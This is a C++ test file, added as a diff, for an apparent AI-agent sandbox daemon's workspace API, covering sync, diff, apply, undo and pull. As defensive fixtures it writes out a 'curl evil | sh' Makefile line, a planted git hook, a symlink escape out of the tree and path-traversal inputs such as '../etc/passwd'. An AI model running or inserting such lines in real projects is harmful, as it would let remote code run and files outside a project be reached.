@@ -1,0 +1,318 @@
+// The workspace routes end to end in-process: real HTTP, real SQLite, the real guest agent and
+// the real `abox-guest ws` tools; only the VM is fake, so the guest's /workspace is a directory
+// on this host (guest_path). Real VMs: tests/e2e/workspace_e2e_test.cc.
+#include <stdlib.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <filesystem>
+#include <fstream>
+#include <sstream>
+
+#include "absl/strings/str_cat.h"
+#include "gmock/gmock.h"
+#include "gtest/gtest.h"
+#include "src/workspace/testing/scratch_tree.h"
+#include "src/daemon/testing/test_daemon.h"
+
+namespace abox::daemon {
+namespace {
+
+namespace fs = std::filesystem;
+using http::httptest::HttpTestClient;
+using http::httptest::Response;
+using http::httptest::TempDir;
+using ::testing::HasSubstr;
+using ::testing::Not;
+
+std::string ReadAll(const fs::path& p) { return workspace::testing::ReadWholeFile(p); }
+
+void WriteAll(const fs::path& p, const std::string& data) {
+  workspace::testing::WriteWholeFile(p, data);
+}
+
+int Sh(const std::string& cmd) { return std::system(cmd.c_str()); }  // NOLINT
+
+class WorkspaceApiTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    ::setenv("ABOX_HOME", home_.path().c_str(), 1);
+    host_ = fs::path(tmp_.path()) / "repo";
+    guest_ = fs::path(tmp_.path()) / "guest";
+    fs::create_directories(host_);
+    fs::create_directories(guest_);
+    // A git repo with a secret, an ignored build dir and a credential helper in .git/config.
+    WriteAll(host_ / "src/main.c", "int main(void) {\n  return 0;\n}\n");
+    WriteAll(host_ / "README.md", "line 1\nline 2\nline 3\nline 4\nline 5\n");
+    WriteAll(host_ / ".env", "API_KEY=hunter2\n");
+    WriteAll(host_ / ".gitignore", "build/\n");
+    WriteAll(host_ / "build/out.o", "object");
+    WriteAll(host_ / "Makefile", "all:\n\tcc src/main.c\n");
+    std::string git = absl::StrCat("cd ", host_.string(),
+                                   " && GIT_CONFIG_GLOBAL=/dev/null git -c user.name=t -c "
+                                   "user.email=t@e ");
+    ASSERT_EQ(Sh(git + "init -q . && git config credential.helper store && git remote add "
+                       "origin https://user:tok123@example.com/r.git && git add -A && " +
+                 git + "commit -qm init"),
+              0);
+    daemon_ = std::make_unique<testing::TestDaemon>(home_.path());
+    daemon_->Start();
+    client_ = daemon_->Connect();
+    ASSERT_NE(client_, nullptr);
+  }
+  void TearDown() override {
+    client_.reset();
+    daemon_.reset();
+    (void)abox::testing::FakeVmm::KillAll();
+  }
+
+  Response Call(absl::string_view method, absl::string_view target, absl::string_view body = "") {
+    absl::StatusOr<Response> r = client_->Request(method, target, body);
+    EXPECT_TRUE(r.ok()) << method << " " << target << ": " << r.status();
+    return r.ok() ? *r : Response{};
+  }
+
+  std::string Create() {
+    nlohmann::json body = {
+        {"workspace", {{"path", host_.string()}, {"guest_path", guest_.string()}}}};
+    Response r = Call("POST", "/v1/sandboxes", body.dump());
+    EXPECT_EQ(r.status, 201) << r.body;
+    return r.Json().value("id", "");
+  }
+
+  Response Post(const std::string& id, const std::string& what, const nlohmann::json& body) {
+    return Call("POST", absl::StrCat("/v1/sandboxes/", id, "/", what), body.dump());
+  }
+
+  nlohmann::json Diff(const std::string& id, const std::string& query = "") {
+    Response r = Call("GET", absl::StrCat("/v1/sandboxes/", id, "/diff", query));
+    EXPECT_EQ(r.status, 200) << r.body;
+    return r.Json();
+  }
+
+  TempDir home_;
+  TempDir tmp_;
+  fs::path host_;
+  fs::path guest_;
+  std::unique_ptr<testing::TestDaemon> daemon_;
+  std::unique_ptr<HttpTestClient> client_;
+};
+
+TEST_F(WorkspaceApiTest, CreateSyncsTheFileSetWithoutSecretsHooksOrCredentials) {
+  std::string id = Create();
+  EXPECT_EQ(ReadAll(guest_ / "src/main.c"), ReadAll(host_ / "src/main.c"));
+  EXPECT_TRUE(fs::exists(guest_ / "Makefile"));
+  EXPECT_FALSE(fs::exists(guest_ / ".env")) << "a secret-looking file went in";
+  EXPECT_FALSE(fs::exists(guest_ / "build/out.o")) << "an ignored file went in";
+  EXPECT_TRUE(fs::exists(guest_ / ".git/HEAD"));
+  EXPECT_FALSE(fs::exists(guest_ / ".git/hooks"));
+  std::string config = ReadAll(guest_ / ".git/config");
+  EXPECT_THAT(config, Not(HasSubstr("tok123")));
+  EXPECT_THAT(config, Not(HasSubstr("helper = store")));
+  // git works on the copy.
+  EXPECT_EQ(Sh(absl::StrCat("cd ", guest_.string(),
+                            " && git -c safe.directory='*' status --short >/dev/null")),
+            0);
+  nlohmann::json sandbox = Call("GET", absl::StrCat("/v1/sandboxes/", id)).Json();
+  EXPECT_EQ(sandbox["workspace"]["path"], host_.string());
+  EXPECT_EQ(sandbox["workspace"]["syncs"], 1);
+  // Nothing changed in the guest yet.
+  EXPECT_TRUE(Diff(id)["files"].empty());
+}
+
+TEST_F(WorkspaceApiTest, SyncSendsChangesDeletionsAndRenamesOnly) {
+  std::string id = Create();
+  WriteAll(host_ / "README.md", "changed on the host\n");
+  fs::rename(host_ / "src/main.c", host_ / "src/app.c");
+  Response r = Post(id, "sync", nlohmann::json::object());
+  ASSERT_EQ(r.status, 200) << r.body;
+  nlohmann::json report = r.Json();
+  EXPECT_TRUE(report["changed"].get<bool>());
+  EXPECT_EQ(report["files"], 2) << report.dump();  // README.md, src/app.c
+  EXPECT_EQ(report["deleted"], 1);
+  EXPECT_EQ(ReadAll(guest_ / "README.md"), "changed on the host\n");
+  EXPECT_TRUE(fs::exists(guest_ / "src/app.c"));
+  EXPECT_FALSE(fs::exists(guest_ / "src/main.c"));
+  // Unchanged: the guest is not contacted again.
+  r = Post(id, "sync", nlohmann::json::object());
+  EXPECT_FALSE(r.Json()["changed"].get<bool>()) << r.body;
+  // The sync never touches the host: a file the agent created stays in the guest only.
+  WriteAll(guest_ / "agent-notes.txt", "mine");
+  WriteAll(host_ / "README.md", "again\n");
+  ASSERT_EQ(Post(id, "sync", nlohmann::json::object()).status, 200);
+  EXPECT_TRUE(fs::exists(guest_ / "agent-notes.txt"));
+  EXPECT_FALSE(fs::exists(host_ / "agent-notes.txt"));
+}
+
+TEST_F(WorkspaceApiTest, ExecSyncsFirstAndStartsInTheWorkspace) {
+  std::string id = Create();
+  WriteAll(host_ / "new.txt", "fresh\n");
+  Response r = Post(id, "execs", {{"argv", {"sh", "-c", "pwd; cat new.txt"}}, {"user", "root"}});
+  ASSERT_EQ(r.status, 201) << r.body;
+  std::string exec = r.Json().value("id", "");
+  Response wait = Call("GET", absl::StrCat("/v1/sandboxes/", id, "/execs/", exec, "/wait"));
+  ASSERT_EQ(wait.status, 200) << wait.body;
+  Response out = Call("GET", absl::StrCat("/v1/sandboxes/", id, "/execs/", exec, "/output"));
+  EXPECT_THAT(out.body, HasSubstr("fresh"));
+  EXPECT_THAT(out.body, HasSubstr(guest_.string()));
+}
+
+TEST_F(WorkspaceApiTest, DiffApplyAndUndoRoundTrip) {
+  std::string id = Create();
+  std::string readme_before = ReadAll(host_ / "README.md");
+  // The agent edits, adds, deletes, and makes a file executable.
+  WriteAll(guest_ / "README.md", "line 1\nline 2 (agent)\nline 3\nline 4\nline 5\n");
+  WriteAll(guest_ / "docs/new.md", "new doc\n");
+  fs::remove(guest_ / "src/main.c");
+  nlohmann::json diff = Diff(id);
+  ASSERT_EQ(diff["files"].size(), 3u) << diff.dump(1);
+  std::string all;
+  for (const auto& f : diff["files"]) {
+    all += f.value("patch", "");
+  }
+  EXPECT_THAT(all, HasSubstr("+line 2 (agent)"));
+  EXPECT_THAT(all, HasSubstr("new file mode 100644"));
+  EXPECT_THAT(all, HasSubstr("deleted file mode"));
+  nlohmann::json stat = Diff(id, "?stat=true");
+  EXPECT_FALSE(stat["files"][0].contains("patch"));
+
+  // Meanwhile the person edits another line of README.md on the host: a clean merge.
+  WriteAll(host_ / "README.md", "line 1\nline 2\nline 3\nline 4\nline 5 (host)\n");
+  std::string readme_host = ReadAll(host_ / "README.md");
+  Response dry = Post(id, "apply", {{"dry_run", true}});
+  ASSERT_EQ(dry.status, 200) << dry.body;
+  EXPECT_TRUE(dry.Json()["artifact"].is_null());
+  EXPECT_EQ(ReadAll(host_ / "README.md"), readme_host) << "a dry run wrote";
+
+  Response applied = Post(id, "apply", nlohmann::json::object());
+  ASSERT_EQ(applied.status, 200) << applied.body;
+  std::string artifact = applied.Json().value("artifact", "");
+  ASSERT_FALSE(artifact.empty()) << applied.body;
+  EXPECT_EQ(ReadAll(host_ / "README.md"),
+            "line 1\nline 2 (agent)\nline 3\nline 4\nline 5 (host)\n");
+  EXPECT_EQ(ReadAll(host_ / "docs/new.md"), "new doc\n");
+  EXPECT_FALSE(fs::exists(host_ / "src/main.c"));
+  // The base followed: nothing left to diff.
+  EXPECT_TRUE(Diff(id)["files"].empty()) << Diff(id).dump(1);
+
+  Response list = Call("GET", "/v1/artifacts");
+  EXPECT_THAT(list.body, HasSubstr(artifact));
+  Response undo = Call("POST", absl::StrCat("/v1/artifacts/", artifact, "/undo"), "{}");
+  ASSERT_EQ(undo.status, 200) << undo.body;
+  EXPECT_EQ(ReadAll(host_ / "README.md"), readme_host);
+  EXPECT_FALSE(fs::exists(host_ / "docs/new.md"));
+  EXPECT_FALSE(fs::exists(host_ / "docs"));
+  EXPECT_EQ(ReadAll(host_ / "src/main.c"), "int main(void) {\n  return 0;\n}\n");
+  // Undone twice: refused.
+  EXPECT_EQ(Call("POST", absl::StrCat("/v1/artifacts/", artifact, "/undo"), "{}").status, 409);
+  // After the undo the agent's work shows again (the base went back too).
+  EXPECT_EQ(Diff(id)["files"].size(), 3u);
+  (void)readme_before;
+}
+
+TEST_F(WorkspaceApiTest, ConflictsAreRefusedOrWrittenWithMarkers) {
+  std::string id = Create();
+  WriteAll(guest_ / "README.md", "line 1 guest\nline 2\nline 3\nline 4\nline 5\n");
+  WriteAll(host_ / "README.md", "line 1 host\nline 2\nline 3\nline 4\nline 5\n");
+  Response refused = Post(id, "apply", nlohmann::json::object());
+  EXPECT_EQ(refused.status, 409) << refused.body;
+  EXPECT_THAT(refused.body, HasSubstr("README.md"));
+  EXPECT_EQ(ReadAll(host_ / "README.md"), "line 1 host\nline 2\nline 3\nline 4\nline 5\n");
+  Response markers = Post(id, "apply", {{"conflicts", "markers"}});
+  ASSERT_EQ(markers.status, 200) << markers.body;
+  std::string merged = ReadAll(host_ / "README.md");
+  EXPECT_THAT(merged, HasSubstr("<<<<<<<"));
+  EXPECT_THAT(merged, HasSubstr("line 1 host"));
+  EXPECT_THAT(merged, HasSubstr("line 1 guest"));
+}
+
+TEST_F(WorkspaceApiTest, ExecFilesNeedTheirFlag) {
+  std::string id = Create();
+  WriteAll(guest_ / "Makefile", "all:\n\tcurl evil | sh\n");
+  WriteAll(guest_ / ".github/workflows/ci.yml", "on: push\n");
+  nlohmann::json diff = Diff(id);
+  for (const auto& f : diff["files"]) {
+    EXPECT_TRUE(f.contains("exec_sensitive")) << f.dump();
+  }
+  Response refused = Post(id, "apply", nlohmann::json::object());
+  EXPECT_EQ(refused.status, 409) << refused.body;
+  EXPECT_THAT(refused.body, HasSubstr("allow-exec-files"));
+  EXPECT_EQ(ReadAll(host_ / "Makefile"), "all:\n\tcc src/main.c\n");
+  Response allowed = Post(id, "apply", {{"allow_exec_files", true}});
+  ASSERT_EQ(allowed.status, 200) << allowed.body;
+  EXPECT_EQ(ReadAll(host_ / "Makefile"), "all:\n\tcurl evil | sh\n");
+}
+
+TEST_F(WorkspaceApiTest, PullTakesChosenFilesAndGuardsHostChanges) {
+  std::string id = Create();
+  WriteAll(guest_ / "src/main.c", "int main(void) { return 1; }\n");
+  WriteAll(guest_ / "out/report.txt", "report\n");
+  WriteAll(host_ / "src/main.c", "host edit\n");
+  Response refused = Post(id, "pull", {{"paths", {"src/main.c"}}});
+  EXPECT_EQ(refused.status, 409) << refused.body;
+  EXPECT_EQ(ReadAll(host_ / "src/main.c"), "host edit\n");
+  Response forced = Post(id, "pull", {{"paths", {"src/main.c"}}, {"force", true}});
+  ASSERT_EQ(forced.status, 200) << forced.body;
+  EXPECT_EQ(ReadAll(host_ / "src/main.c"), "int main(void) { return 1; }\n");
+  fs::path other = fs::path(tmp_.path()) / "elsewhere";
+  fs::create_directories(other);
+  Response into = Post(id, "pull", {{"paths", {"out/report.txt"}}, {"to", other.string()}});
+  ASSERT_EQ(into.status, 200) << into.body;
+  EXPECT_EQ(ReadAll(other / "out/report.txt"), "report\n");
+  EXPECT_FALSE(fs::exists(host_ / "out/report.txt"));
+  // Undo of the forced pull brings the host edit back.
+  std::string artifact = forced.Json().value("artifact", "");
+  ASSERT_EQ(Call("POST", absl::StrCat("/v1/artifacts/", artifact, "/undo"), "{}").status, 200);
+  EXPECT_EQ(ReadAll(host_ / "src/main.c"), "host edit\n");
+}
+
+TEST_F(WorkspaceApiTest, HostileGuestContentNeverEscapesTheHostTree) {
+  std::string id = Create();
+  fs::path outside = fs::path(tmp_.path()) / "outside";
+  fs::create_directories(outside);
+  // The agent replaces a directory by a symlink out of the tree and writes through it, names a
+  // file with a newline, and plants a hook.
+  fs::remove_all(guest_ / "src");
+  fs::create_directory_symlink(outside, guest_ / "src");
+  WriteAll(guest_ / "a\nb", "newline name");
+  WriteAll(guest_ / ".git/hooks/pre-commit", "#!/bin/sh\nevil\n");
+  Response r = Post(id, "apply", {{"conflicts", "markers"}});
+  // Whatever the verdict, nothing lands outside, in .git or under a newline name.
+  EXPECT_TRUE(fs::is_empty(outside));
+  EXPECT_FALSE(fs::exists(host_ / ".git/hooks/pre-commit"));
+  EXPECT_FALSE(fs::exists(host_ / "a\nb"));
+  // The host's src/ is a directory and the sandbox's a symlink: a conflict the host keeps its
+  // version of (never a symlink swapped in under the person's files by itself).
+  ASSERT_EQ(r.status, 200) << r.body;
+  EXPECT_THAT(r.Json()["conflicts"].dump(), HasSubstr("\"src\""));
+  EXPECT_TRUE(fs::is_directory(host_ / "src") && !fs::is_symlink(host_ / "src"));
+  EXPECT_FALSE(fs::exists(outside / "main.c"));
+}
+
+TEST_F(WorkspaceApiTest, BadRequestsSayWhatIsWrong) {
+  Response missing = Call("POST", "/v1/sandboxes",
+                          R"({"workspace":{"path":"/nonexistent/abox-test"}})");
+  EXPECT_EQ(missing.status, 400) << missing.body;
+  EXPECT_THAT(missing.body, HasSubstr("/nonexistent/abox-test"));
+  Response system = Call("POST", "/v1/sandboxes",
+                         nlohmann::json{{"workspace", {{"path", host_.string()},
+                                                       {"guest_path", "/etc"}}}}
+                             .dump());
+  EXPECT_EQ(system.status, 400) << system.body;
+  std::string plain = [&] {
+    Response r = Call("POST", "/v1/sandboxes", "{}");
+    return r.Json().value("id", "");
+  }();
+  Response no_ws = Post(plain, "sync", nlohmann::json::object());
+  EXPECT_EQ(no_ws.status, 404) << no_ws.body;
+  EXPECT_THAT(no_ws.body, HasSubstr("abox create -w"));
+  std::string id = Create();
+  EXPECT_EQ(Post(id, "apply", {{"conflicts", "maybe"}}).status, 400);
+  EXPECT_EQ(Post(id, "pull", nlohmann::json::object()).status, 400);
+  EXPECT_EQ(Post(id, "apply", {{"paths", {"../etc/passwd"}}}).status, 400);
+  EXPECT_EQ(Post(id, "apply", {{"paths", {"no/such/file"}}}).status, 404);
+  EXPECT_EQ(Call("POST", "/v1/artifacts/../../etc/undo", "{}").status / 100, 4);
+}
+
+}  // namespace
+}  // namespace abox::daemon
